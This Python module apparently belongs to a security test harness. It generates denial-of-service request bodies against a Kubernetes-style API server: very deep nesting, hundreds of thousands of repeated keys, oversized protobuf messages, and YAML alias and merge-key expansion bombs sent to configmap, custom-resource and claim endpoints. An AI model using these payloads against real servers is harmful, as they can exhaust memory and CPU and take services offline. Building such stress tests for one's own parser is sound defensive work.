"""Bodies that are hard to parse: depth, width, aliases."""

from __future__ import annotations

import json
from collections.abc import Iterator

from attack.bombs.building import CLAIMS, CORE, LIMIT, REVIEW, WIDGETS, Bomb, review, review_protobuf, send
from attack.custom_kinds import GROUP
from attack.servers import NOBODY
from attack.vocabulary import APPLY, JSON, JSON_PATCH, MERGE, STRATEGIC, YAML
from attack.wire import ADMIN, Request
from dray.api.protobuf import encode_field


def depth() -> Iterator[Bomb]:
    """Nest: in every notation, at sizes around the limits of recursion."""
    for levels in (200, 500, 700, 900, 1_000, 3_000, 10_000, 40_000, 1_000_000):
        yield f"yaml [ x {levels}", review("[" * levels, YAML)
        yield f"json [ x {levels}", review("[" * levels)
        yield f"json [] x {levels}", review("[" * levels + "]" * levels)
        if levels > 100_000:
            continue
        yield f"yaml {{a: x {levels}", review("{a: " * levels, YAML)
        yield f"yaml - x {levels}", review("- " * levels + "x", YAML)
        yield f"yaml ? x {levels}", review("? " * levels + "x", YAML)
        yield f"yaml &a [ x {levels}", review("&a [" * levels, YAML)
        yield f"yaml !!seq [ x {levels}", review("!!seq [" * levels, YAML)
        deep = '{"a":' * levels + "1" + "}" * levels
        yield f"json object x {levels}", review('{"spec":' + deep + "}")
        config = {"driver": "gpu.example.com", "parameters": "DEEP"}
        spec = {
            "devices": {
                "requests": [{"name": "r", "exactly": {"deviceClassName": "a"}}],
                "config": [{"opaque": config}],
            }
        }
        claim = json.dumps({"metadata": {"name": f"deep{levels}"}, "spec": spec}).replace('"DEEP"', deep)
        yield f"opaque parameters x {levels}", send("POST", CLAIMS, claim)
        for content in (MERGE, STRATEGIC, APPLY):
            patch = f'{{"apiVersion":"v1","kind":"ConfigMap","metadata":{{"name":"a0"}},"data":{deep}}}'
            yield (
                f"{content} x {levels}",
                send("PATCH", f"{CORE}/configmaps/a0?fieldManager=m", patch, content),
            )
            free = f'{{"apiVersion":"{GROUP}/v1","kind":"Widget","metadata":{{"name":"a0"}},"spec":{{"free":{deep}}}}}'
            yield (
                f"{content} of a custom kind x {levels}",
                send("PATCH", f"{WIDGETS}/a0?fieldManager=m", free, content),
            )
        yield (
            f"json patch value x {levels}",
            send(
                "PATCH",
                f"{CORE}/configmaps/a0",
                f'[{{"op":"add","path":"/data","value":{deep}}}]',
                JSON_PATCH,
            ),
        )
        yield f"delete options x {levels}", send("DELETE", f"{CORE}/configmaps/zz", deep)
        yield (
            f"widget x {levels}",
            send("POST", WIDGETS, f'{{"metadata":{{"name":"deep{levels}"}},"spec":{{"free":{deep}}}}}'),
        )
        yield f"read widget x {levels}", Request("GET", f"{WIDGETS}/deep{levels}", {"Accept": YAML})
        managed = f'[{{"manager":"m","operation":"Update","apiVersion":"v1","fieldsType":"FieldsV1","fieldsV1":{deep}}}]'
        yield (
            f"managed fields x {levels}",
            send(
                "POST",
                f"{CORE}/configmaps",
                f'{{"metadata":{{"name":"m{levels}","managedFields":{managed}}}}}',
            ),
        )
    message = b""
    for _ in range(5_000):
        message = encode_field(1, message) if len(message) < 1_000_000 else message
    yield "protobuf nested", review_protobuf(message)
    yield "protobuf groups", review_protobuf(b"\x0b" * 100_000)


def width() -> Iterator[Bomb]:
    """Repeat: keys, fields, items."""
    for count in (20_000, 100_000, 250_000):
        same = ",".join('"a":1' for _ in range(count))
        many = ",".join(f'"k{n}":1' for n in range(count))
        yield f"json same key x {count}", review("{" + same + "}")
        yield f"json same key in spec x {count}", review('{"spec":{' + same + "}}")
        yield (
            f"json same key in two x {count}",
            review('{"spec":{' + ",".join('"user":"a","groups":[]' for _ in range(count // 2)) + "}}"),
        )
        yield f"json unknown x {count}", review("{" + many[: LIMIT - 2].rpartition(",")[0] + "}")
        yield (
            f"json unknown, strict x {count}",
            send(
                "POST",
                REVIEW + "?fieldValidation=Strict",
                "{" + many[: LIMIT - 2].rpartition(",")[0] + "}",
                JSON,
                NOBODY,
            ),
        )
        yield (
            f"yaml keys x {count}",
            review("\n".join(f"k{n}: 1" for n in range(count))[:LIMIT].rpartition("\n")[0], YAML),
        )
        yield f"yaml same key x {count}", review("\n".join("a: 1" for _ in range(count)), YAML)
        yield (
            f"yaml flow keys x {count}",
            review(
                "{" + ",".join(f"k{n}: 1" for n in range(count))[: LIMIT - 2].rpartition(",")[0] + "}", YAML
            ),
        )
        yield (
            f"json resource attributes x {count}",
            review('{"spec":{"resourceAttributes":{' + many[: LIMIT - 100].rpartition(",")[0] + "}}}"),
        )
        yield (
            f"labels x {count}",
            send(
                "POST",
                f"{CORE}/configmaps",
                '{"metadata":{"name":"l","labels":{'
                + many.replace(":1", ':"v"')[: LIMIT - 100].rpartition(",")[0]
                + "}}}",
            ),
        )
        yield (
            f"bad labels x {count}",
            send(
                "POST",
                f"{CORE}/configmaps",
                '{"metadata":{"name":"l","labels":{'
                + many.replace('"k', '"-k').replace(":1", ':"-"')[: LIMIT - 100].rpartition(",")[0]
                + "}}}",
            ),
        )
        yield (
            f"data x {count}",
            send(
                "POST",
                f"{CORE}/configmaps",
                '{"metadata":{"name":"d"},"data":{'
                + many.replace(":1", ':"v"')[: LIMIT - 100].rpartition(",")[0]
                + "}}",
            ),
        )
        yield (
            f"finalizers x {count}",
            send("POST", f"{CORE}/configmaps", {"metadata": {"name": "f", "finalizers": ["a/b"] * count}}),
        )
        yield (
            f"owners x {count}",
            send(
                "POST",
                f"{CORE}/configmaps",
                json.dumps({"metadata": {"name": "f", "ownerReferences": [{"x": 1}] * (count // 2)}})[:LIMIT],
            ),
        )
    yield "json empty lists", review("[" + "[]," * (LIMIT // 3 - 2) + "[]]")
    yield (
        "json unknown in items",
        send(
            "POST",
            CLAIMS,
            {
                "metadata": {"name": "u"},
                "spec": {"devices": {"requests": [{f"x{n}": 1} for n in range(100_000)]}},
            },
        ),
    )
    yield "yaml empty lists", review("[" + "[]," * (LIMIT // 3 - 2) + "[]]", YAML)
    yield "yaml dashes", review("-\n" * (LIMIT // 2), YAML)
    yield "yaml documents", review("---\n" * (LIMIT // 4), YAML)
    yield "yaml spaces", review(" " * LIMIT, YAML)
    yield "yaml tabs", review("a:\n" + "\t" * LIMIT, YAML)
    yield "yaml comments", review("#\n" * (LIMIT // 2), YAML)
    yield "yaml text", review('"' + "\\\n" * (LIMIT // 2 - 2), YAML)
    yield "yaml folded", review("a: >\n" + " b\n\n" * (LIMIT // 5), YAML)
    yield "yaml anchors", review("\n".join(f"- &a{n} x" for n in range(150_000)), YAML)
    yield "yaml tags", review("\n".join("- !a!b x" for n in range(150_000)), YAML)
    yield "yaml numbers", review("\n".join("- 1:2:3:4:5" for n in range(150_000)), YAML)
    yield "yaml dates", review("\n".join("- 2001-01-01T00:00:00.0" for n in range(100_000)), YAML)
    yield "yaml escapes", review('"' + "\\u0041" * (LIMIT // 6 - 1) + '"', YAML)


def aliases() -> Iterator[Bomb]:
    """Repeat by reference: YAML that is small until it is opened."""
    lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x,x]"]
    lines += [f"a{n}: &a{n} [{','.join(f'*a{n - 1}' for _ in range(10))}]" for n in range(1, 12)]
    for target, content in ((REVIEW, YAML), (f"{CORE}/configmaps", YAML)):
        yield (
            f"alias bomb to {target}",
            send("POST", target, "\n".join(lines), content, NOBODY if target == REVIEW else ADMIN),
        )
    yield (
        "alias bomb in apply",
        send(
            "PATCH",
            f"{CORE}/configmaps/a0?fieldManager=m",
            "\n".join(["apiVersion: v1", "kind: ConfigMap", *lines]),
            APPLY,
        ),
    )
    yield "alias of itself", review("&a [*a]", YAML)
    yield "alias of itself in a map", review("spec: &a {b: *a}", YAML)
    yield "one large alias", review("a: &a [" + "x," * 100_000 + "]\nb: [" + "*a," * 10_000 + "]", YAML)
    merges = ["a0: &a0 {k0: 1}"] + [
        f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}], k{n}: 1}}" for n in range(1, 25)
    ]
    yield "merge keys", review("\n".join(merges), YAML)
    yield (
        "merge keys wide",
        review(
            "a: &a {" + ",".join(f"k{n}: 1" for n in range(10_000)) + "}\nb:\n" + "- <<: *a\n" * 1_000, YAML
        ),
    )
